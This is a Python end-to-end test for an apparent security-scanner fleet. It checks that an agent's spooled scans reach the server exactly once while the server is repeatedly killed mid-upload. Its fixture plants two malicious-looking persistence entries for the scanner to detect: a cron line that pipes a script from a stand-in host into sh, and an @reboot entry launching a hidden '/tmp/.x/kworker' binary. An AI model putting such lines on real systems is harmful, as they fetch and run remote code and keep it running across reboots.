"""Zero loss, end to end: an agent spools several scans while the server is
away, then uploads them while the server is killed with SIGKILL again and
again in the middle of the upload (right after an acknowledgement, and a
random few milliseconds later); after a last restart every scan the
agent made is on the server exactly once, with all its findings, and the
agent's spool is empty."""
import json
import os
import random
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
from rasoat_e2e import RASOAT, Tree, check, done  # noqa: E402
from fleet_e2e import Agent, Server, expected_findings, located, make_root, require_backend  # noqa: E402

PASSED = 0
SCANS = 8
KILLS = 3


def ok(cond, message):
    global PASSED
    check(cond, message)
    PASSED += 1


def spooled_scans(agent):
    ids = []
    for name in agent.spool():
        with open(os.path.join(agent.state, "spool", name)) as f:
            ids.append(json.load(f)["scans"][0]["summary"]["scan"])
    return ids


def upload_until_killed(srv, agent, root, extra=0.0):
    """Starts an upload and SIGKILLs the server EXTRA seconds after the
    spool first shrinks (one batch acknowledged; with EXTRA > 0 the kill
    lands at a random point of a later upload), or after 10 s."""
    before = len(agent.spool())
    srv.start()
    proc = subprocess.Popen([RASOAT, "agent", "run", "--once", "--state", agent.state, "--root", root,
                             "--only", "persist", "--retries", "1", "--max-backoff", "1"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    deadline = time.time() + 10
    while time.time() < deadline and len(agent.spool()) >= before and proc.poll() is None:
        time.sleep(0.002)
    time.sleep(extra)
    srv.kill9()
    _, err = proc.communicate(timeout=60)
    return proc.returncode, err.decode(errors="replace")


def main():
    require_backend("test_fleet_loss")
    with Tree("rasoat-fleet-loss-") as t:
        db = t.p("server/fleet.db")
        os.makedirs(os.path.dirname(db))
        srv = Server(db).start()
        try:
            scenario(t, srv)
        finally:
            srv.kill9()
    done("test_fleet_loss", PASSED)


def scenario(t, srv):
    root = make_root(t, "host", ["* * * * * root curl http://a.example/x.sh | sh",
                                 "@reboot root /tmp/.x/kworker"])
    want = expected_findings(root)
    ok(len(want) >= 1, "the fixture root gives findings")
    token = srv.token()
    key = srv.apikey()
    agent = Agent(t.p("agent"))
    agent.enrol(srv.url, token)
    srv.stop()

    # scans made while the server is away are spooled, none lost
    for i in range(SCANS):
        code, out, err = agent.run_once(root, "--scan", "--retries", "0")
        ok(code == 2, f"run {i} with the server away exits 2: {code} {err[-300:]}")
    made = spooled_scans(agent)
    ok(len(made) == SCANS and len(set(made)) == SCANS, f"{SCANS} scans spooled: {made}")

    interrupted = 0
    for k in range(KILLS + 2):
        left_before = len(agent.spool())
        code, err = upload_until_killed(srv, agent, root, 0.0 if k < KILLS else random.uniform(0.001, 0.03))
        ok(code in (0, 2), f"kill {k}: the agent exits 0 or 2, not {code}: {err[-500:]}")
        ok(len(agent.spool()) <= left_before, f"kill {k}: the spool only shrinks")
        ok(set(spooled_scans(agent)) <= set(made), "the spool holds only scans the agent made")
        print(f"kill {k}: {left_before} spooled before, {len(agent.spool())} after")
        interrupted += 0 < len(agent.spool()) < left_before
    ok(interrupted > 0, "at least one kill hit the middle of an upload")

    srv.start()
    for _ in range(3):
        if not agent.spool():
            break
        code, out, err = agent.run_once(root, "--retries", "2", "--max-backoff", "1")
    ok(agent.spool() == [], f"the spool is empty after the last restart: {agent.spool()}")

    status, host, _ = srv.get(f"/api/v1/hosts/{agent.id}", key)
    stored = [s["scan"] for s in host["scans"]]
    ok(status == 200 and sorted(stored) == sorted(set(stored)), f"no scan stored twice: {stored}")
    ok(set(made) <= set(stored), f"every spooled scan is on the server: missing {set(made) - set(stored)}")
    # the enrolment scan was not forced: the first run above also scanned (never scanned before)
    ok(len(stored) == SCANS, f"exactly the {SCANS} scans the agent made: {len(stored)}")
    for scan_id in made:
        items = srv.get_all(f"/api/v1/findings?scan={scan_id}", key)
        ok(located(items) == want, f"scan {scan_id} has all its findings once: {len(items)}")
    ok("refused" not in srv.read_log(), "no request was refused")


if __name__ == "__main__":
    main()
